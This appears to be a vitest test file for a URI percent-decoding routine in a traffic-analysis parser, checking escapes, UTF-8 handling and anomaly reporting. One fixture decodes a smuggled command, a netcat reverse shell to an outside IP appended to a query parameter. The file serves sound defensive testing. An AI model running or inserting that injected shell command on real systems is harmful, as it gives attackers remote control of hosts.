import { describe, expect, it } from 'vitest';
import { bytesOfLatin1 } from '../../../base/bytes.ts';
import { unescapeUri } from './uri.ts';

function decode(uri: string): { text: string; weirds: string[] } {
  const weirds: string[] = [];
  const bytes = bytesOfLatin1(`<${uri}>`);
  return { text: unescapeUri(bytes, 1, uri.length + 1, (name) => weirds.push(name)), weirds };
}

const samples: readonly (readonly [string, string, string, string?])[] = [
  ['leaves plain text and plus signs', '/a+b?c=d', '/a+b?c=d'],
  ['decodes once', '/%2561%20b', '/%61 b'],
  [
    'decodes a command',
    '/dangerzone?category=x%3B%20nc%20-e%20%2Fbin%2Fsh%2035.217.6.162%203000',
    '/dangerzone?category=x; nc -e /bin/sh 35.217.6.162 3000',
  ],
  ['decodes UTF-8', '/%C3%A6', '/æ'],
  ['escapes bytes that are no text', '/%ff%00', String.raw`/\xff\x00`],
  ['decodes four digits, without a zero byte', '/%u0041%u4e2d', '/AN-'],
  ['keeps what is no escape', '/%zz', '/%zz', 'unescaped_%_in_URI'],
  ['takes two percent signs for one', '/%%41', '/A', 'double_%_in_URI'],
  ['keeps a percent sign at the end', '/a%', '/a%', 'illegal_%_at_end_of_URI'],
  ['keeps half an escape at the end', '/a%4', '/a%4', 'partial_escape_at_end_of_URI'],
];

describe('percent-decoding', () => {
  for (const [name, uri, expected, weird] of samples) {
    it(name, () => {
      expect(decode(uri)).toEqual({ text: expected, weirds: weird === undefined ? [] : [weird] });
    });
  }

  it('takes targets longer than its buffer', () => {
    expect(decode('%41'.repeat(5000)).text).toBe('A'.repeat(5000));
  });
});
